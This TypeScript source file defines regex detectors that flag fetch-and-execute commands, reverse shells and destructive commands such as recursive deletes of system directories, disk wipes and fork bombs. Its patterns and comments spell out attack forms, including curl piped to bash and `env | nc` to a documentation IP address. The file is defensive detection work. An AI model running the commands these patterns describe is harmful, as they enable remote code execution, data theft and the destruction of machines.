import { type Detector, finding, matchSet, patternDetector, patternSet, type TextRole } from './detector.js';

// Every pattern is linear: gaps are bounded and exclude the delimiter that follows them, and no
// quantified group contains another quantifier over overlapping characters.

const SHELL_ROLES: readonly TextRole[] = ['command', 'value', 'decoded'];
const INTERPRETER = String.raw`(?:sudo\s+(?:-\S+\s+){0,3})?(?:/usr)?(?:/bin/)?(?:(?:ba|z|k|da|c|tc|fi|a)?sh|python[23]?|perl|ruby|node|php|pwsh|powershell|iex)\b`;

/** `fetch-exec`: content fetched or decoded, then executed. */
export const fetchExecDetector = patternDetector('fetch-exec', SHELL_ROLES, [
  {
    // Saved to a file, then run: `curl -o /tmp/a.sh URL && bash /tmp/a.sh`, `wget URL -O x; chmod +x x`.
    code: 'download_then_run',
    re: /\b(?:curl|wget)\b[^\n|]{0,300}\s(?:-o|-O|--output(?:-document)?)[\s=]{1,4}\S{1,200}[^\n|]{0,40}(?:&&|;)\s{0,4}(?:sudo\s+)?(?:(?:ba|z|da)?sh\s|python[23]?\s|chmod\s+(?:[ugoa]*\+x|[0-7]{3,4})\s|\/tmp\/|\.\/\S{0,200}\.sh\b)/,
  },
  {
    code: 'download_pipe_shell',
    re: new RegExp(
      String.raw`\b(?:curl|wget|fetch|aria2c|lwp-download|lynx\s+-source|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^|\n;&]{0,400}\|\s{0,8}${INTERPRETER}`,
    ),
  },
  {
    code: 'decode_pipe_shell',
    re: new RegExp(
      String.raw`\b(?:base64|base32|xxd|openssl\s+(?:enc|base64))\b[^|\n;]{0,120}\s-{1,2}(?:d|decode|r|revert)\b[^|\n;]{0,200}\|\s{0,8}${INTERPRETER}`,
    ),
  },
  {
    code: 'printf_pipe_shell',
    re: new RegExp(
      String.raw`\b(?:printf|echo\s+-e)\s+["']?(?:\\(?:x[0-9a-f]{2}|[0-7]{3})){3,}[^|\n;]{0,200}\|\s{0,8}${INTERPRETER}`,
    ),
  },
  {
    code: 'substitution_exec',
    re: /\b(?:(?:ba|z|k|da)?sh|eval|exec|source|\.)\s+(?:-c\s+)?["']?(?:\$\(|`|<\()\s{0,4}(?:curl|wget|fetch|printf|echo\s+[^)`\n]{0,400}\|\s{0,4}base(?:64|32)|base(?:64|32))\b/,
  },
  {
    code: 'powershell_download_exec',
    re: /\b(?:iex|invoke-expression)\b[^\n;|]{0,40}(?:new-object\s+(?:system\.)?net\.webclient|iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)|downloadstring\s*\(\s*["']https?:|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n|;]{0,80}\s-(?:e|ec|enc|encodedcommand)\s+[a-z0-9+/=]{20,}/,
  },
  {
    code: 'script_download_exec',
    re: /\bexec\s*\(\s*(?:urllib\.request\.)?urlopen\s*\(|\bexec\s*\(\s*requests\.get\s*\(|\beval\s*\(\s*(?:atob|buffer\.from)\s*\(|\beval\s*\(\s*await\s+\(?\s*await\s+fetch\s*\(/,
  },
]);

/** `reverse-shell`: an interactive shell wired to a network socket. */
export const reverseShellDetector = patternDetector('reverse-shell', SHELL_ROLES, [
  {
    code: 'dev_tcp',
    re: /\/dev\/(?:tcp|udp)\/[^\s/]{1,255}\/\d{1,5}|\/inet\/(?:tcp|udp)\/\d{1,5}\/[^\s/]{1,255}\/\d{1,5}/,
  },
  {
    code: 'netcat_exec',
    re: /\b(?:nc|ncat|netcat)(?:\.exe)?\s(?:[^\n|;]{0,200}\s)?-[a-z]{0,3}[ec]\s{1,4}["']?[^\s"']{0,40}(?:sh|cmd(?:\.exe)?|powershell)\b/,
  },
  {
    code: 'fifo_relay',
    re: /\b(?:mkfifo|mknod)\s[^\n]{0,200}\b(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b/,
  },
  { code: 'socat_exec', re: /\bsocat\b[^\n|;]{0,200}\b(?:exec|system):/ },
  {
    code: 'python_pty',
    re: /\bos\.dup2\s*\(\s*[\w.]{1,40}\.fileno\(\)|\bpty\.spawn\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh/,
  },
  {
    code: 'perl_php_ruby_socket',
    re: /\bfsockopen\s*\([^\n]{0,200}\b(?:exec|shell_exec|system|proc_open|passthru)\b|\bperl\s[^\n]{0,40}-e\s[^\n]{0,300}\bsocket\s*\(|\btcpsocket\.(?:new|open)\s*\([^\n]{0,200}\b(?:exec|spawn|syscall)\b/,
  },
  { code: 'powershell_tcp', re: /net\.sockets\.tcpclient\s*\(/ },
  { code: 'telnet_relay', re: /\btelnet\s+\S{1,255}\s+\d{1,5}\s*\|\s{0,4}(?:\/bin\/)?(?:ba)?sh\b/ },
  // Output piped straight into a raw socket: `env | nc 203.0.113.4 9001`.
  {
    code: 'pipe_to_socket',
    re: /\|\s{0,8}(?:nc|ncat|netcat|telnet|socat)(?:\.exe)?\s[^\n|;&]{0,120}\b\d{1,5}\b/,
  },
]);

const SYSTEM_DIRS = new Set([
  'bin',
  'boot',
  'dev',
  'etc',
  'home',
  'lib',
  'lib64',
  'opt',
  'proc',
  'root',
  'sbin',
  'srv',
  'sys',
  'usr',
  'var',
  'users',
  'system',
  'library',
  'applications',
  'private',
]);

/** True when an `rm -r` target is the root, a system directory, a home directory or a wildcard of one. */
function catastrophicTarget(raw: string): boolean {
  const target = raw.replace(/^["']|["']$/g, '').replace(/(?:\/\*?)+$/, '/');
  if (
    target === '/' ||
    target === '*' ||
    target === '.' ||
    target === '..' ||
    target === './' ||
    target === '../'
  )
    return true;
  if (/^(?:~|\$home|\$\{home\}|%userprofile%)\/?$/.test(target)) return true;
  if (/^[a-z]:[\\/]?$/.test(target)) return true;
  const parts = target.split('/').filter((p) => p !== '');
  if (!target.startsWith('/')) return false;
  if (parts.length === 1) return SYSTEM_DIRS.has(parts[0] as string);
  return parts.length === 2 && (parts[0] === 'home' || parts[0] === 'users');
}

const RM = /\brm\s+([^\n;|&]{1,300})/g;
const DESTRUCTIVE = [
  { code: 'filesystem_format', re: /\bmkfs(?:\.\w+)?\s|\bwipefs\s|\bformat(?:\.com)?\s+[a-z]:(?:\s|$)/ },
  {
    code: 'raw_disk_write',
    re: /\bdd\b[^\n|;]{0,100}\bof=\/dev\/(?:sd|hd|nvme|xvd|vd|mmcblk|disk)|>\s*\/dev\/(?:sd[a-z]|nvme\d|hd[a-z]|xvd[a-z]|vd[a-z]|mmcblk\d)|\bshred\b[^\n|;]{0,100}\/dev\//,
  },
  { code: 'fork_bomb', re: /:\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:/ },
  { code: 'find_delete_root', re: /\bfind\s+\/\s[^\n|;]{0,200}-delete\b/ },
  {
    code: 'windows_wipe',
    re: /\b(?:del|erase)\s+(?:\/[a-z]\s+){1,4}[a-z]:\\(?:\*|\s|$)|\b(?:rd|rmdir)\s+\/s\s+\/q\s+[a-z]:\\(?:\s|$|windows)|\bremove-item\b[^\n]{0,100}-recurse[^\n]{0,100}\s[a-z]:\\(?:\*|\s|$|windows)/,
  },
  { code: 'recursive_chmod_root', re: /\bch(?:mod|own)\s+-r\s+\S{1,40}\s+\/(?:\s|$|\*)/ },
];

const DESTRUCTIVE_SET = patternSet(DESTRUCTIVE);

/** `destructive-command`: wiping the root, a system or home directory, a disk or the machine. */
export const destructiveDetector: Detector = {
  id: 'destructive-command',
  roles: SHELL_ROLES,
  scan(t, _call, out) {
    const lower = t.lower;
    if (lower.includes('rm')) {
      RM.lastIndex = 0;
      for (let m = RM.exec(lower); m !== null; m = RM.exec(lower)) {
        const tokens = (m[1] as string).split(/\s+/).filter((s) => s !== '');
        const flags = tokens.filter((s) => s.startsWith('-'));
        const recursive = flags.some((f) => f === '--recursive' || /^-[a-z]*r/.test(f));
        if (!recursive) continue;
        if (
          flags.includes('--no-preserve-root') ||
          tokens.filter((s) => !s.startsWith('-')).some(catastrophicTarget)
        ) {
          out.push(finding('destructive-command', 'recursive_delete', t, m.index, m[0].length));
          return;
        }
      }
    }
    const m = matchSet(DESTRUCTIVE_SET, t);
    if (m !== undefined) out.push(finding('destructive-command', m.code, t, m.index, m.length));
  },
};
